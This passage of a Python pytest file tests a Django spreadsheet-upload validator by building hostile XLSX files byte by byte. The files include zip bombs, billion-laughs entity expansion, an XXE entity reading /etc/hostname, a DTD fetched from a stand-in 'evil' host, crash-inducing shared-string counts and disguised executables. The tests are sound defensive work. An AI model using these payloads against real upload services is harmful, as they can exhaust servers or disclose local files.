"""Tests of wanzhou_jobs.spreadsheets: hostile uploads (THREATS.md F), header rules (DESIGN.md §5),
cell parsing and formula-safe export (THREATS.md E5–E7).

Hostile files are assembled byte by byte here, so each test shows exactly what the attacker sends.
"""

import io
import os
import pickle
import resource
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from unittest import mock
from xml.sax.saxutils import escape

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext_lazy
from openpyxl.utils import get_column_letter

from wanzhou_jobs import spreadsheets
from wanzhou_jobs.spreadsheets import (
    AMOUNT_INVALID,
    DATE_INVALID,
    FILE_CORRUPT,
    FILE_EMPTY,
    FILE_ENCRYPTED,
    FILE_FORMULAS,
    FILE_LEGACY_XLS,
    FILE_MACROS,
    FILE_NOT_XLSX,
    FILE_TOO_LARGE,
    FILE_TOO_MANY_COLUMNS,
    FILE_TOO_MANY_ROWS,
    FILE_XML_DTD,
    FILE_ZIP_BOMB,
    FIRST_SHEET_HIDDEN,
    HEADER_DUPLICATE,
    HEADER_MISSING,
    HEADER_TAKEN_AS,
    OTHER_SHEETS_IGNORED,
    UNKNOWN_COLUMNS_IGNORED,
    VALUE_REQUIRED,
    YES_NO_INVALID,
    SpreadsheetError,
    clean_text,
    container,
    core,
    csv_safe,
    inspect_xlsx,
    inspection,
    openpyxl_uses_defusedxml,
    parse_amount,
    parse_date,
    parse_yes_no,
    read_rows,
    reading,
    safe_cell,
    safe_cell_value,
    write_safe_row,
    write_xlsx,
)

REQUIRED = ["姓名", "公民身份号码"]
OPTIONAL = ["联系电话", "就业时间"]
ENGINES = ["calamine", "openpyxl"]
MB = 1024 * 1024

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
CT_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_STRINGS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


# --- Building files byte by byte -------------------------------------------------------------------------


def deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def zeros_stream(megabytes: int) -> bytes:
    """A raw deflate stream inflating to `megabytes` MB of zeros, built without inflating anything."""
    block = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one_mb = block.compress(b"\0" * MB) + block.flush(zlib.Z_FULL_FLUSH)  # self-contained, byte-aligned
    return one_mb * megabytes + zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()


def assemble_zip(members: list[tuple[str, bytes, int, int]], *, comment: bytes = b"") -> bytes:
    """A zip from (name, deflated payload, crc, declared size) - sizes and CRCs as the caller says."""
    out, central = io.BytesIO(), []
    for name, payload, crc, size in members:
        offset, encoded = out.tell(), name.encode()
        out.write(
            struct.pack(
                "<4sHHHHHLLLHH",
                b"PK\x03\x04",
                20,
                0x800,
                8,
                0,
                0x21,
                crc,
                len(payload),
                size,
                len(encoded),
                0,
            )
        )
        out.write(encoded + payload)
        central.append(
            struct.pack(
                "<4sHHHHHHLLLHHHHHLL",
                *(b"PK\x01\x02", 20, 20, 0x800, 8, 0, 0x21, crc, len(payload), size, len(encoded)),
                *(0, 0, 0, 0, 0, offset),
            )
            + encoded
        )
    directory = b"".join(central)
    cd_offset = out.tell()
    out.write(directory)
    count = len(members)
    out.write(
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), cd_offset, len(comment))
    )
    return out.getvalue() + comment


def zip_parts(parts: dict[str, bytes | str], raw: dict[str, tuple[bytes, int, int]] | None = None) -> bytes:
    members = []
    for name, data in parts.items():
        data = data.encode() if isinstance(data, str) else data
        members.append((name, deflate(data), zlib.crc32(data), len(data)))
    members += [(name, *value) for name, value in (raw or {}).items()]
    return assemble_zip(members)


def cells(row: int, values: list) -> str:
    """One <row> with inline strings and numbers, like openpyxl, WPS and LibreOffice write them."""
    out = []
    for column, value in enumerate(values, start=1):
        ref = f"{get_column_letter(column)}{row}"
        if value is None:
            continue
        if isinstance(value, str):
            space = ' xml:space="preserve"' if value != value.strip() else ""
            out.append(f'<c r="{ref}" t="inlineStr"><is><t{space}>{escape(value)}</t></is></c>')
        else:
            out.append(f'<c r="{ref}"><v>{value}</v></c>')
    return f'<row r="{row}">{"".join(out)}</row>'


def table(rows: list[list], start: int = 1) -> str:
    return "".join(cells(number, values) for number, values in enumerate(rows, start=start))


def worksheet(sheet_data: str, *, head: str = "", tail: str = "", prolog: str = "", attrs: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"{attrs}>{head}'
        f"<sheetData>{sheet_data}</sheetData>{tail}</worksheet>"
    )


def xlsx(
    *sheets,
    shared_strings: str | None = None,
    extra: dict | None = None,
    raw: dict | None = None,
    main_type: str = CT_MAIN,
) -> bytes:
    """A minimal workbook; each sheet is a worksheet XML string or (name, xml, state)."""
    sheets = [s if isinstance(s, tuple) else (f"Sheet{i}", s, None) for i, s in enumerate(sheets, start=1)]
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>']
    entries, rels, parts = [], [], {}
    for index, (name, xml, state) in enumerate(sheets, start=1):
        overrides.append(f'<Override PartName="/xl/worksheets/sheet{index}.xml" ContentType="{CT_SHEET}"/>')
        state_attr = f' state="{state}"' if state else ""
        entries.append(f'<sheet name="{name}" sheetId="{index}"{state_attr} r:id="rId{index}"/>')
        rels.append(
            f'<Relationship Id="rId{index}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{index}.xml"/>'
        )
        if xml is not None:
            parts[f"xl/worksheets/sheet{index}.xml"] = xml
    if shared_strings is not None:
        overrides.append(f'<Override PartName="/xl/sharedStrings.xml" ContentType="{CT_STRINGS}"/>')
        rels.append(f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>')
        parts["xl/sharedStrings.xml"] = shared_strings
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    parts = {
        "[Content_Types].xml": (
            f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>' + "".join(overrides) + "</Types>"
        ),
        "_rels/.rels": (
            f'{head}<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
            f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'{head}<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{"".join(entries)}</sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": f'{head}<Relationships xmlns="{PKG_REL_NS}">{"".join(rels)}</Relationships>',
        **parts,
        **(extra or {}),
    }
    return zip_parts(parts, raw)


def simple_file(rows: list[list] | None = None) -> bytes:
    return xlsx(worksheet(table(rows or [REQUIRED, ["张三", "110105199001011234"]])))


def refused(message, action, *args, **kwargs) -> SpreadsheetError:
    with pytest.raises(SpreadsheetError) as caught:
        action(*args, **kwargs)
    assert caught.value.messages == [str(message)]
    return caught.value


@dataclass
class Work:
    """What reading a file cost: bytes the zip checks inflated, rows and cells the reader handed on."""

    inflated: int = 0
    rows: int = 0
    cells: int = 0


class _CountingInflater:
    def __init__(self, inflater, work: Work):
        self._inflater, self._work = inflater, work

    def decompress(self, data, max_length=0):
        out = self._inflater.decompress(data, max_length)
        self._work.inflated += len(out)
        return out

    def __getattr__(self, name):
        return getattr(self._inflater, name)


class _CountingZlib:
    """`zlib` as the container module sees it, with inflaters that count what they produce."""

    def __init__(self, work: Work):
        self._work = work

    def decompressobj(self, *args, **kwargs):
        return _CountingInflater(zlib.decompressobj(*args, **kwargs), self._work)

    def __getattr__(self, name):
        return getattr(zlib, name)


@contextmanager
def counted() -> Iterator[Work]:
    """Count the work done inside the block: a refusal must come before the work, not after a while."""
    work = Work()
    guarded = reading._guarded

    def counting(rows):
        for number, values in guarded(rows):
            work.rows += 1
            work.cells += len(values)
            yield number, values

    with (
        mock.patch.object(container, "zlib", _CountingZlib(work)),
        mock.patch.object(reading, "_guarded", counting),
    ):
        yield work


def bounded(action, *, megabytes: float) -> Work:
    """Run `action`, asserting its peak Python allocation; returns the work it did."""
    tracemalloc.start()
    try:
        with counted() as work:
            action()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < megabytes * MB, peak
    return work


# --- F10/F11: what the file really is --------------------------------------------------------------------


def test_openpyxl_parses_with_defusedxml():
    assert openpyxl_uses_defusedxml() is True
    assert openpyxl.xml.DEFUSEDXML is True


def test_error_is_a_validation_error():
    assert issubclass(SpreadsheetError, ValidationError)


def test_legacy_xls_is_refused_by_magic_bytes():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\0" * 2000
    refused(FILE_LEGACY_XLS, inspect_xlsx, ole)


def test_password_protected_xlsx_is_refused():
    ole = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 1500
        + "EncryptedPackage".encode("utf-16-le")
        + b"\0" * 64
    )
    refused(FILE_ENCRYPTED, inspect_xlsx, ole)  # read_rows reads the OLE directory: test_formats.py


@pytest.mark.parametrize(
    "content",
    [
        "\ufeff姓名,公民身份号码\n张三,110105199001011234\n".encode(),  # CSV renamed .xlsx
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\0" * 100,
        b"<html><body><script>alert(1)</script></body></html>",
        b"MZ\x90\x00" + b"\0" * 200,  # an .exe, whatever Content-Type the browser claimed (F11)
        b"PK\x05\x06" + b"\0" * 18,  # an empty zip
    ],
)
def test_files_that_are_not_xlsx_are_refused(content):
    refused(FILE_NOT_XLSX, inspect_xlsx, content)


def test_empty_file():
    refused(FILE_EMPTY, inspect_xlsx, b"")


def test_file_over_the_size_limit_is_refused_before_reading():
    refused(str(FILE_TOO_LARGE).format(limit=1), inspect_xlsx, b"PK\x03\x04" + b"\0" * MB, max_bytes=MB)
    error = refused(str(FILE_TOO_LARGE).format(limit=20), read_rows, b"\0" * (20 * MB + 1), required=REQUIRED)
    assert "20 MB" in error.messages[0]


def test_truncated_zip_is_refused():
    whole = simple_file()
    refused(FILE_CORRUPT, inspect_xlsx, whole[: len(whole) // 2])
    refused(FILE_CORRUPT, inspect_xlsx, whole[:-1])


def test_damaged_member_is_refused():
    whole = bytearray(simple_file())
    start = whole.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    whole[start + 5] ^= 0xFF
    refused(FILE_CORRUPT, read_rows, bytes(whole), required=REQUIRED)


def test_zip_with_comment_or_trailing_bytes_is_refused():
    # A second central directory could hide there for a reader that searches differently.
    members = [("a.xml", deflate(b"<a/>"), zlib.crc32(b"<a/>"), 4)]
    refused(FILE_CORRUPT, inspect_xlsx, assemble_zip(members, comment=b"hello"))
    refused(FILE_CORRUPT, inspect_xlsx, simple_file() + b"junk")


def test_duplicate_member_names_are_refused():
    data = simple_file()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    members = [(name, deflate(body), zlib.crc32(body), len(body)) for name, body in parts.items()]
    sheet = parts["xl/worksheets/sheet1.xml"]
    members.append(("XL/Worksheets/Sheet1.xml", deflate(sheet), zlib.crc32(sheet), len(sheet)))
    refused(FILE_CORRUPT, inspect_xlsx, assemble_zip(members))


def test_docx_and_ods_renamed_xlsx_are_refused():
    docx = zip_parts({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
    refused(FILE_NOT_XLSX, inspect_xlsx, docx)
    ods = zip_parts({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"})
    refused(FILE_NOT_XLSX, inspect_xlsx, ods)
    # An xlsx that also carries ODS parts: calamine could fall back to its unvetted ODS reader.
    refused(FILE_NOT_XLSX, inspect_xlsx, xlsx(worksheet(""), extra={"content.xml": "<a/>"}))


def test_macro_workbook_is_refused():
    with_vba = xlsx(worksheet(table([REQUIRED])), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    refused(FILE_MACROS, read_rows, with_vba, required=REQUIRED)
    macro_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    refused(FILE_MACROS, inspect_xlsx, xlsx(worksheet(""), main_type=macro_type))


WB_HEAD = f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
SHEET_REL = f'<Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>'


@pytest.mark.parametrize(
    "part, xml",
    [
        # Two relationships with one id: calamine keeps the last, openpyxl the first.
        (
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{PKG_REL_NS}">{SHEET_REL}'
            f'<Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="worksheets/sheet2.xml"/></Relationships>',
        ),
        # A <sheet> outside <sheets>: calamine lists it, openpyxl does not.
        (
            "xl/workbook.xml",
            f'{WB_HEAD}<fileVersion><sheet name="Sheet1" sheetId="9" r:id="rId2"/></fileVersion>'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        ),
        # Two relationship ids under different prefixes: each reader would follow another one.
        (
            "xl/workbook.xml",
            f'{WB_HEAD}<sheets><sheet xmlns:q="urn:q" name="Sheet1" sheetId="1" r:id="rId1" q:id="rId2"/>'
            "</sheets></workbook>",
        ),
        # A target the two readers resolve to different parts.
        (
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{PKG_REL_NS}">'
            f'<Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="xl/worksheets/sheet1.xml"/></Relationships>',
        ),
    ],
)
def test_workbooks_the_two_readers_would_read_differently_are_refused(part, xml):
    refused(FILE_CORRUPT, inspect_xlsx, xlsx(worksheet(table([REQUIRED])), extra={part: xml}))


# --- F2: zip bombs ---------------------------------------------------------------------------------------


def test_zip_bomb_declared_300_mb_is_refused_before_inflating():
    stream = zeros_stream(300)  # about 300 KB
    bomb = xlsx(None, raw={"xl/worksheets/sheet1.xml": (stream, 0, 300 * MB)})
    assert len(bomb) < 400_000
    work = bounded(lambda: refused(FILE_ZIP_BOMB, read_rows, bomb, required=REQUIRED), megabytes=10)
    assert work == Work(inflated=0, rows=0, cells=0)  # the central directory is enough


def test_zip_bomb_by_ratio_alone_is_refused():
    # bomb20.xlsx: ~20 KB inflating to 20 MB - under the total, over 100:1.
    stream = zeros_stream(20)
    bomb = xlsx(None, raw={"xl/worksheets/sheet1.xml": (stream, zlib.crc32(b"\0" * (20 * MB)), 20 * MB)})
    work = bounded(lambda: refused(FILE_ZIP_BOMB, inspect_xlsx, bomb), megabytes=10)
    assert work.inflated == 0


def test_zip_bomb_lying_about_its_size_is_stopped_while_inflating():
    # The directory claims 2,000 bytes; the stream holds 300 MB. Only actual inflation can tell.
    bomb = xlsx(None, raw={"xl/worksheets/sheet1.xml": (zeros_stream(300), 0, 2000)})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    work = bounded(lambda: refused(FILE_ZIP_BOMB, read_rows, bomb, required=REQUIRED), megabytes=10)
    # Stopped inside the first output chunk of the 300 MB (the other parts are a few hundred bytes).
    assert work.inflated < core._OUT_CHUNK + 64 * 1024 and work.rows == 0
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 50 * 1024


def test_lying_size_in_another_member_is_stopped_too():
    bomb = xlsx(worksheet(table([REQUIRED])), raw={"xl/media/image1.png": (zeros_stream(50), 0, 100)})
    work = bounded(lambda: refused(FILE_ZIP_BOMB, inspect_xlsx, bomb), megabytes=10)
    assert work.inflated < core._OUT_CHUNK + 64 * 1024  # of 50 MB


def test_shared_strings_count_that_would_abort_calamine_is_refused():
    # python-calamine reserves uniqueCount strings before reading one: 2**32 of them abort the whole
    # process with "memory allocation failed". A regression here crashes the test run - loudly.
    sst = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="4294967295"><si><t>姓名</t></si></sst>'
    data = xlsx(worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared_strings=sst)
    refused(FILE_CORRUPT, read_rows, data, required=["姓名"], engine="calamine")
    refused(FILE_CORRUPT, inspect_xlsx, xlsx(worksheet(""), shared_strings=sst.replace("4294967295", "1e9")))


@pytest.mark.parametrize("engine, value", [("calamine", "-1e308"), ("openpyxl", "NaN")])
def test_reader_failures_become_a_clean_error(engine, value):
    # Date cells no calendar holds: calamine panics in Rust (a PanicException, which is a
    # BaseException), openpyxl raises ValueError. The clerk reads one sentence, not a traceback.
    styles = f'<styleSheet xmlns="{MAIN_NS}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    sheet = worksheet(cells(1, REQUIRED) + f'<row r="2"><c r="A2" s="1"><v>{value}</v></c></row>')
    data = xlsx(sheet, extra={"xl/styles.xml": styles})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl complains about the missing default style
        refused(FILE_CORRUPT, read_rows, data, required=REQUIRED, engine=engine)


def test_calamine_crash_costs_only_its_child_process():
    # Defence in depth behind inspection: hand calamine the aborting file directly.
    sst = f'<sst xmlns="{MAIN_NS}" uniqueCount="4294967295"><si><t>姓名</t></si></sst>'
    data = xlsx(worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared_strings=sst)
    sheet = core._Sheet(name="Sheet1", hidden=False, kind="worksheet", path="xl/worksheets/sheet1.xml")
    rows = reading._guarded(reading._calamine_rows(data, core._Inspection(sheet=sheet)))
    with pytest.raises(SpreadsheetError) as caught:
        list(rows)
    assert caught.value.messages == [str(FILE_CORRUPT)]


def test_calamine_child_output_cannot_run_code():
    with pytest.raises(pickle.UnpicklingError):
        reading._RowsUnpickler(io.BytesIO(pickle.dumps((None, [os.getcwd])))).load()
    value = (None, [[date(2025, 3, 15), datetime(2025, 3, 15, 8), 1.5, "a", True]])
    assert reading._RowsUnpickler(io.BytesIO(pickle.dumps(value))).load() == value


# --- F3/F4: DTDs -------------------------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + f']><sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)


def test_billion_laughs_in_shared_strings_is_refused():
    data = xlsx(worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared_strings=BILLION_LAUGHS)
    work = bounded(lambda: refused(FILE_XML_DTD, read_rows, data, required=REQUIRED), megabytes=10)
    # Only the file's own few kilobytes were inflated, and no parser ever expanded an entity.
    assert work.inflated < 16 * 1024 and work.rows == 0


def test_billion_laughs_in_the_sheet_is_refused():
    prolog = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    data = xlsx(worksheet(table([REQUIRED, ["&b;", "1"]]).replace("&amp;b;", "&b;"), prolog=prolog))
    refused(FILE_XML_DTD, read_rows, data, required=REQUIRED)


def test_xxe_is_refused_and_no_file_content_is_read():
    prolog = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
    data = xlsx(worksheet(table([REQUIRED, ["&xxe;", "1"]]).replace("&amp;xxe;", "&xxe;"), prolog=prolog))
    error = refused(FILE_XML_DTD, read_rows, data, required=REQUIRED)
    assert "hostname" not in str(error)


def test_dtd_in_workbook_part_is_refused():
    data = xlsx(
        worksheet(""), extra={"xl/workbook.xml": '<!DOCTYPE x SYSTEM "http://evil/x.dtd"><workbook/>'}
    )
    refused(FILE_XML_DTD, inspect_xlsx, data)


def test_utf16_part_is_refused():
    # The byte-level scans read ASCII-compatible XML only; Excel never writes UTF-16 parts.
    sheet = worksheet(table([REQUIRED])).replace("UTF-8", "UTF-16").encode("utf-16")
    refused(FILE_CORRUPT, inspect_xlsx, xlsx(sheet))


# --- F5/F6/F16: where the cells really are -------------------------------------------------------------


def test_cell_at_xfd1048576_is_refused_before_reading():
    sheet = worksheet(cells(1, REQUIRED) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    data = xlsx(sheet)
    assert len(data) < 2500
    message = str(FILE_TOO_MANY_ROWS).format(limit=100000)
    assert message == "文件超过 100000 行的上限，请拆分后上传"
    work = bounded(lambda: refused(message, inspect_xlsx, data), megabytes=5)
    assert work.inflated < 4096 and work.rows == 0
    read = lambda: refused(message, read_rows, data, required=REQUIRED, engine="calamine")  # noqa: E731
    assert bounded(read, megabytes=5).rows == 0  # refused by the scan: no reader built the grid


def _calamine_children() -> list[int]:
    """Our child processes running the calamine reader (zombies included: a child must also be reaped)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        ppid = int(stat.rsplit(")", 1)[1].split()[1])
        if ppid == os.getpid() and (
            b"python_calamine" in cmdline or stat.rsplit(")", 1)[1].split()[0] == "Z"
        ):
            found.append(int(pid))
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_calamine_child_started_during_the_scan_is_gone_when_the_scan_refuses():
    # The child starts on the sheet as soon as the structure checks pass; the scan of the cells then
    # refuses the file, and the child is killed and reaped before the refusal reaches the caller.
    tall = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 40))
    data = xlsx(worksheet(cells(1, REQUIRED) + tall))
    assert _calamine_children() == []
    refused(str(FILE_TOO_MANY_ROWS).format(limit=19), read_rows, data, required=REQUIRED, max_rows=19)
    assert _calamine_children() == []
    # The same file within the limit is read by the child started during the scan.
    sheet = read_rows(data, required=REQUIRED, max_rows=100, engine="calamine")
    assert [row.number for row in sheet.rows][:2] == [2, 3] and len(sheet.rows) == 38
    assert _calamine_children() == []


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_calamine_child_past_its_time_is_killed_and_reaped(monkeypatch):
    # A child that never finishes (here: it sleeps before reading) is killed at the deadline; the clerk
    # reads one sentence and no process is left behind.
    monkeypatch.setattr(reading, "CALAMINE_TIMEOUT", 0.2)
    monkeypatch.setattr(reading, "_CALAMINE_CHILD", "import time; time.sleep(60)\n" + reading._CALAMINE_CHILD)
    refused(FILE_CORRUPT, read_rows, simple_file(), required=REQUIRED, engine="calamine")
    assert _calamine_children() == []


def test_too_many_columns_is_refused():
    sheet = worksheet(cells(1, REQUIRED) + '<row r="2"><c r="GS2"><v>1</v></c></row>')  # column 201
    refused(str(FILE_TOO_MANY_COLUMNS).format(limit=200), read_rows, xlsx(sheet), required=REQUIRED)
    inspect_xlsx(xlsx(worksheet('<row r="2"><c r="GR2"><v>1</v></c></row>')))  # column 200 is allowed


def test_row_limit_is_configurable():
    sheet = worksheet(table([REQUIRED] + [["张三", str(n)] for n in range(20)]))
    refused(str(FILE_TOO_MANY_ROWS).format(limit=10), inspect_xlsx, xlsx(sheet), max_rows=10)
    # read_rows counts data rows: the header and blank rows do not count.
    refused(str(FILE_TOO_MANY_ROWS).format(limit=19), read_rows, xlsx(sheet), required=REQUIRED, max_rows=19)
    assert len(read_rows(xlsx(sheet), required=REQUIRED, max_rows=20).rows) == 20


@pytest.mark.parametrize("engine", ENGINES)
def test_huge_declared_dimension_with_few_cells_costs_nothing(engine):
    sheet = worksheet(
        table([REQUIRED, ["张三", "1"], ["李四", "2"]]), head='<dimension ref="A1:XFD1048576"/>'
    )
    data = xlsx(sheet)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = []
    work = bounded(lambda: result.append(read_rows(data, required=REQUIRED, engine=engine)), megabytes=10)
    assert [row.values["姓名"] for row in result[0].rows] == ["张三", "李四"]
    # The header and two rows of two cells: not 1,048,576 rows of 16,384 cells.
    assert (work.rows, work.cells) == (3, 6)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024  # KB: no Rust grid either


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("dimension", ['<dimension ref="A1:B2"/>', '<dimension ref="A1"/>'])
def test_lying_dimension_does_not_drop_rows(engine, dimension):
    rows = [REQUIRED] + [[f"工人{n}", f"1101051990010{n:05d}"] for n in range(100)]
    result = read_rows(xlsx(worksheet(table(rows), head=dimension)), required=REQUIRED, engine=engine)
    assert len(result.rows) == 100
    assert result.rows[-1].number == 101
    assert result.rows[-1].values["姓名"] == "工人99"


@pytest.mark.parametrize("engine", ENGINES)
def test_libreoffice_blank_styled_rows_are_skipped_within_limits(engine):
    # LibreOffice writes formatted empty cells far beyond the data; only cells with values count.
    data_rows = table([REQUIRED, ["张三", "1"], [None, None], ["李四", "2"]])
    blank = "".join(f'<row r="{n}"><c r="AMJ{n}" s="1"/></row>' for n in range(5, 3000))
    sheet = worksheet(data_rows + blank, head='<dimension ref="A1:AMJ1048576"/>')
    result = read_rows(xlsx(sheet), required=REQUIRED, max_rows=100, engine=engine)
    assert [(row.number, row.values["姓名"]) for row in result.rows] == [(2, "张三"), (4, "李四")]


@pytest.mark.parametrize("engine", ENGINES)
def test_rows_holding_only_blank_values_are_empty_and_not_counted(engine):
    # A template pre-fills a column in thousands of rows: those rows are not rows, a row with more is.
    rows = [[*REQUIRED, "就业时间"], ["张三", "1", "甘宁镇"]]
    rows += [
        [None, " ", "甘宁镇"],
        [None, None, " 甘宁镇\u3000"],
        ["李四", None, "甘宁镇"],
        [None, None, "分水镇"],
    ]
    rows += [[None, None, "甘宁镇"]] * 200
    blank = {"就业时间": ["甘宁镇", "分水镇"], "联系电话": ["x"]}
    result = read_rows(
        xlsx(worksheet(table(rows))),
        required=REQUIRED,
        optional=OPTIONAL,
        blank_values=blank,
        max_rows=197,  # the sheet holds 206 rows of values: within the bound, not 205 data rows
        engine=engine,
    )
    assert [(row.number, row.values["姓名"]) for row in result.rows] == [(2, "张三"), (5, "李四")]
    assert result.rows[1].values["就业时间"] == "甘宁镇"  # a real row keeps its pre-filled value
    without = read_rows(xlsx(worksheet(table(rows[:6]))), required=REQUIRED, optional=OPTIONAL, engine=engine)
    assert [row.number for row in without.rows] == [2, 3, 4, 5, 6]


@pytest.mark.parametrize("engine", ENGINES)
def test_prefixed_elements_and_cells_without_r_are_read(engine):
    # The .NET Open XML SDK writes x: prefixes; some generators leave out r. Both go the exact way.
    body = (
        f'<x:worksheet xmlns:x="{MAIN_NS}"><x:sheetData>'
        '<x:row><x:c t="inlineStr"><x:is><x:t>姓名</x:t></x:is></x:c>'
        '<x:c t="inlineStr"><x:is><x:t>公民身份号码</x:t></x:is></x:c></x:row>'
        '<x:row><x:c t="inlineStr"><x:is><x:t>张三</x:t></x:is></x:c><x:c><x:v>7</x:v></x:c></x:row>'
        "</x:sheetData></x:worksheet>"
    )
    result = read_rows(xlsx(body), required=REQUIRED, engine=engine)
    assert result.header_row == 1
    assert [(row.number, row.values["姓名"], row.values["公民身份号码"]) for row in result.rows] == [
        (2, "张三", 7)
    ]


def test_cells_without_r_cannot_hide_a_wide_row():
    wide = '<row r="2">' + "<c><v>1</v></c>" * 201 + "</row>"
    refused(
        str(FILE_TOO_MANY_COLUMNS).format(limit=200), inspect_xlsx, xlsx(worksheet(cells(1, REQUIRED) + wide))
    )
    tall = "<row><c><v>1</v></c></row>" * 120
    refused(str(FILE_TOO_MANY_ROWS).format(limit=100), inspect_xlsx, xlsx(worksheet(tall)), max_rows=100)


@pytest.mark.parametrize(
    "cell",
    [
        '<c s="a>b" r="XFD2"><v>1</v></c>',  # ">" inside an earlier attribute value
        "<c t='n' r='XFD2'><v>1</v></c>",  # single quotes, r not first
        '<c r = "XFD2" ><v>1</v></c>',  # spaces around "="
        '<x:c xmlns:x="urn:x" r="XFD2"><v>1</v></x:c>',  # calamine ignores namespaces
        '<:c r="XFD2"><v>1</v></:c>',  # an empty prefix, still "c" to quick-xml
    ],
)
def test_unusual_cell_syntax_cannot_hide_a_far_cell(cell):
    sheet = worksheet(cells(1, REQUIRED) + f'<row r="2">{cell}</row>')
    refused(str(FILE_TOO_MANY_COLUMNS).format(limit=200), inspect_xlsx, xlsx(sheet))


@pytest.mark.parametrize(
    "cell",
    [
        "<c s=' r=\"A2\"'><v>1</v></c>",  # r= only inside another attribute's value
        '<c r="&#88;FD2"><v>1</v></c>',  # a character reference the parser would decode
        '<c r="$A$2"><v>1</v></c>',
        '<c r="A12345678"><v>1</v></c>',
    ],
)
def test_cell_references_the_scanner_cannot_vouch_for_are_refused(cell):
    sheet = worksheet(cells(1, REQUIRED) + f'<row r="2">{cell}</row>')
    refused(FILE_CORRUPT, inspect_xlsx, xlsx(sheet))


EXCEL_ATTRS = (
    ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x14ac xr"'
